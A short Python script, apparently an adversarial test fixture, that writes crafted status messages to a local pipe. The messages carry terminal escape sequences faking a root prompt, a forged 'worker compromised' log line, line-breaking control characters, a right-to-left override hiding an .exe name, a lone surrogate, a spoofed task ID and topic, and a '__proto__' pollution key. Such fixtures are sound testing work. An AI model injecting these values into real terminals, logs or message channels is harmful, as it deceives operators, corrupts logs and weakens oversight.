"""
Writes statuses that speak for another call, steer terminals, break lines of logs and turn text
around.
"""

import json
import os

from support.leaving import leave

TEXTS = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mroot# ",
    "done\n{\"level\":50,\"msg\":\"worker compromised\"}",
    "done\r\x9b2J\u2028next line\u2029and next",
    "invoice\u202egpj.exe\u2066\u2069\u200f",
    "half \ud800 of a character",
)


def attack(target):
    descriptor = os.open("status.pipe", os.O_WRONLY)
    for text in TEXTS:
        line = {"status": text, "task_id": "another-call", "statusTo": "another/topic", "__proto__": {"polluted": 1}}
        os.write(descriptor, json.dumps(line).encode() + b"\n")
    leave()
